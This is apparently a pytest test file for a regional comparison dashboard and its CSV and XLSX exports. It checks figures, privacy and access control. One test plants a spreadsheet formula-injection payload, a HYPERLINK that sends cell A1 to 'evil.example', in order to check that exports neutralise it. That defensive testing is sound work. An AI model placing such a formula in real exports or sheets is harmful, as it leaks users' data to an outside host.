"""Central comparison pages, exports and the staff dashboard's peer benchmark, on the fixed fixture."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from app.accounts.services import create_platform_admin
from app.central import comparison as reports
from app.central.exports import neutralise
from app.extensions import db as _db
from tests.compare_fixture import EXPECTED, PERIOD, with_data
from tests.conftest import central_login

PERIOD_ARGS = f"start={PERIOD[0].isoformat()}&end={PERIOD[1].isoformat()}"
ADMIN_PASSWORD = "central-password-1"
#: Exported values: shares in percent with one decimal, the score with one decimal (compared within 0.05).
EXPORTED = {slug: {k: round(v * 100, 1) if k in ("verified_share", "followup_share", "reopen_rate") else v
                   for k, v in values.items()} for slug, values in EXPECTED.items()}
TOLERANCE = {"score": 0.051}
COLUMNS = [i.key for i in reports.INDICATORS]


@pytest.fixture()
def compare_data(db, bjm, ktg, make_user):
    yield from with_data(db, bjm, ktg, make_user)


@pytest.fixture()
def central(app, db, client):
    create_platform_admin("pusat@lapor.example", "Admin Pusat", ADMIN_PASSWORD)
    db.session.commit()
    resp = central_login(client, "pusat@lapor.example", ADMIN_PASSWORD)
    assert resp.status_code == 302
    return client


def _cells(html: str, key: str) -> list[str]:
    return [re.sub(r"<[^>]+>|\s+", " ", m).strip()
            for m in re.findall(rf'data-key="{key}"[^>]*>(.*?)</td>', html, re.S)]


def test_comparison_page_shows_the_hand_computed_numbers_in_both_regions(central, compare_data):
    resp = central.get(f"/central/compare?{PERIOD_ARGS}&sort=backlog&dir=desc&lang=en")
    assert resp.status_code == 200
    html = resp.text
    # Sorted by backlog, largest first: Banjarmasin (5) before Katingan (2).
    assert html.index("Pemerintah Kota Banjarmasin") < html.index("Pemerintah Kabupaten Katingan")
    assert _cells(html, "received") == ["4", "4"]
    assert _cells(html, "per_100k") == ["2", "8"]
    assert [c.split(" (")[0].strip() for c in _cells(html, "verified_share")] == ["33.3 %", "66.7 %"]
    assert [c.split(" (")[0].strip() for c in _cells(html, "median_first_response_days")] == ["3", "1"]
    assert _cells(html, "backlog") == ["5", "2"] and _cells(html, "oldest_open_days") == ["49", "28"]
    assert [c.split(" (")[0].strip() for c in _cells(html, "avg_rating")] == ["3.5", "4"]
    assert 'class="num band-red" data-key="verified_share"' in html
    assert 'class="num band-yellow" data-key="verified_share"' in html
    scores = [float(c.split(" (")[0].strip()) for c in _cells(html, "score")]  # one decimal shown
    assert scores == pytest.approx([EXPECTED["banjarmasin"]["score"], EXPECTED["katingan"]["score"]], abs=0.051)
    assert html.count("<svg class=\"trend\"") == 2
    assert "Siti" not in html and "warga@contoh.id" not in html and "B1 lampu jalan" not in html
    # Without a direction an indicator sorts best first (the smallest backlog); unknown keys fall back.
    asc = central.get(f"/central/compare?{PERIOD_ARGS}&sort=backlog").text
    assert asc.index("Pemerintah Kabupaten Katingan") < asc.index("Pemerintah Kota Banjarmasin")
    assert central.get(f"/central/compare?{PERIOD_ARGS}&sort=reporter_email").status_code == 200


def test_comparison_pages_regions_and_filters_by_province(central, compare_data, monkeypatch):
    from app.central import views_compare

    monkeypatch.setattr(views_compare, "PER_PAGE", 1)
    base = f"/central/compare?{PERIOD_ARGS}&sort=backlog&dir=desc&lang=en"
    first, second = central.get(base).text, central.get(base + "&page=2").text
    assert "Pemerintah Kota Banjarmasin" in first and "Pemerintah Kabupaten Katingan" not in first
    assert "Pemerintah Kabupaten Katingan" in second and "Pemerintah Kota Banjarmasin" not in second
    assert "<td>2</td>" in second  # the rank counts across pages
    assert "Regions 2–2 of 2" in second and "page=1" in second
    assert central.get(base + "&page=99").text.count('data-key="backlog"') == 1  # clamped to the last page
    only = central.get(f"/central/compare?{PERIOD_ARGS}&province=Kalimantan+Tengah&lang=en").text
    assert "Pemerintah Kabupaten Katingan" in only and "Pemerintah Kota Banjarmasin" not in only
    assert "province=Kalimantan+Tengah" in only  # kept in the sort and export links
    csv_text = central.get(f"/central/compare.csv?{PERIOD_ARGS}&province=Kalimantan+Tengah").text
    assert "Katingan" in csv_text and "Banjarmasin" not in csv_text


def test_bad_period_falls_back_with_a_message(central, compare_data):
    resp = central.get("/central/compare?start=2026-02-30&end=x&lang=en")
    assert resp.status_code == 200 and "Enter dates as YYYY-MM-DD." in resp.text
    resp = central.get("/central/compare?start=2026-03-01&end=2026-02-01&lang=en")
    assert "The end of the period is before its start." in resp.text


@pytest.mark.parametrize("period", ["start=0001-01-01&end=0001-12-31", "start=9999-01-01&end=9999-12-31",
                                    "start=9999-12-31&end=9999-12-31"])
def test_a_period_at_year_1_or_9999_falls_back_with_a_message_not_a_500(central, compare_data, period):
    for url in ("/central/compare", "/central/compare/banjarmasin", "/central/compare.csv"):
        resp = central.get(f"{url}?{period}&lang=en")
        assert resp.status_code == 200, (url, resp.status_code)
    assert "Give a date between 1900-01-01 and 2999-12-31." in central.get(f"/central/compare?{period}&lang=en").text


def test_drill_down_shows_aggregates_only(central, compare_data):
    resp = central.get(f"/central/compare/banjarmasin?{PERIOD_ARGS}&lang=en")
    assert resp.status_code == 200
    assert _cells(resp.text, "backlog") == ["5"]
    assert "Verified within deadline: 1 of 3 (1 of them still waiting past the deadline)." in resp.text
    assert 'id="score-points"' in resp.text
    for personal in ("Warga Uji", "warga@contoh.id", "B2 saluran air", "BJM-26-"):
        assert personal not in resp.text
    assert central.get("/central/compare/atlantis").status_code == 404


def test_csv_and_xlsx_exports_carry_the_same_numbers(central, compare_data):
    csv_resp = central.get(f"/central/compare.csv?{PERIOD_ARGS}&sort=name")
    assert csv_resp.status_code == 200 and csv_resp.mimetype == "text/csv"
    assert "attachment" in csv_resp.headers["Content-Disposition"]
    lines = list(csv.reader(io.StringIO(csv_resp.data.decode("utf-8-sig"))))
    body = {line[1]: line for line in lines[1:]}
    for slug, expected in EXPORTED.items():
        for key, value in expected.items():
            assert float(body[slug][4 + COLUMNS.index(key)]) == pytest.approx(value, abs=TOLERANCE.get(key)), (
                slug, key)

    xlsx_resp = central.get(f"/central/compare.xlsx?{PERIOD_ARGS}&sort=name")
    assert xlsx_resp.status_code == 200
    ws = load_workbook(io.BytesIO(xlsx_resp.data)).active
    rows = {r[1]: r for r in ws.iter_rows(min_row=3, values_only=True)}
    for slug, expected in EXPORTED.items():
        for key, value in expected.items():
            cell = rows[slug][4 + COLUMNS.index(key)]
            assert isinstance(cell, (int, float)) and cell == pytest.approx(value, abs=TOLERANCE.get(key)), (slug, key)
            assert cell == pytest.approx(float(body[slug][4 + COLUMNS.index(key)]))  # CSV == XLSX


def test_exports_neutralise_a_formula_in_a_region_name(db, central, compare_data):
    bjm, _ = compare_data
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
    bjm.name = evil
    bjm.province = "+62 Kalimantan"
    db.session.commit()
    text = central.get(f"/central/compare.csv?{PERIOD_ARGS}").data.decode("utf-8-sig")
    row = next(r for r in csv.reader(io.StringIO(text)) if r[1] == "banjarmasin")
    assert row[0] == "'" + evil and row[2] == "'+62 Kalimantan"
    assert not any(cell.startswith(("=", "+", "-", "@")) for line in csv.reader(io.StringIO(text)) for cell in line)

    data = central.get(f"/central/compare.xlsx?{PERIOD_ARGS}").data
    ws = load_workbook(io.BytesIO(data)).active
    cell = next(r[0] for r in ws.iter_rows(min_row=3) if r[1].value == "banjarmasin")
    assert cell.value == evil and cell.data_type == "s"  # a string cell, never a formula
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    assert neutralise("@SUM(A1)") == "'@SUM(A1)" and neutralise("\tx") == "'\tx" and neutralise(-1) == -1


def test_tenant_staff_cannot_open_the_comparison(app, bjm, make_user, login_as):
    client = login_as(bjm, make_user(bjm, "tenant_admin"))
    for url in ("/central/compare", "/central/compare/banjarmasin", "/central/compare.csv", "/central/compare.xlsx"):
        resp = client.get(url)
        assert resp.status_code in (302, 403), url
        if resp.status_code == 302:
            assert resp.headers["Location"].startswith("/central/login"), url
    assert app.test_client().get("/central/compare").status_code == 302


def test_staff_dashboard_shows_the_peer_median_without_naming_other_regions(app, bjm, compare_data, make_user,
                                                                             login_as, monkeypatch):
    client = login_as(bjm, make_user(bjm, "officer"))
    # Default minimum (3 regions): with two, the median would reveal Katingan's figures, so none is shown.
    html = client.get("/banjarmasin/staff/?lang=en").text
    assert 'id="peer-benchmark"' in html and "regions count as peers" in html
    assert re.search(r'data-median="verified_share">\s*<span class="muted">–', html)

    monkeypatch.setitem(app.config, "PEER_BENCHMARK_MIN_TENANTS", 2)
    # Peers: live 30 days with 20 reports by default; this fixture has 4–6 reports a region.
    monkeypatch.setitem(app.config, "PEER_MIN_REPORTS", 4)
    for tenant in compare_data:
        tenant.go_live_at = datetime(2025, 1, 1, tzinfo=UTC)
    _db.session.commit()
    reports.clear_peer_cache()
    # The dashboard's period is the last 12 months up to today: pin "today" to 28 Feb 2026 (frozen_time
    # does not reach into the test client's fresh request context).
    monkeypatch.setattr(reports, "utcnow", lambda: datetime(2026, 2, 28, 12, tzinfo=UTC))
    html = client.get("/banjarmasin/staff/?lang=en").text
    section = html[html.index('id="peer-benchmark"'):html.index("</section>", html.index('id="peer-benchmark"'))]
    # Last 12 months to 28 Feb also take in B5 and B7 (January): own received 6, Katingan 5 (K5).
    assert re.search(r'data-key="received">6<', section)
    assert re.search(r'data-median="received">5\.5<', section)  # median(6, 5)
    assert "Katingan" not in html and "katingan" not in html
    assert "2 peer regions." in section
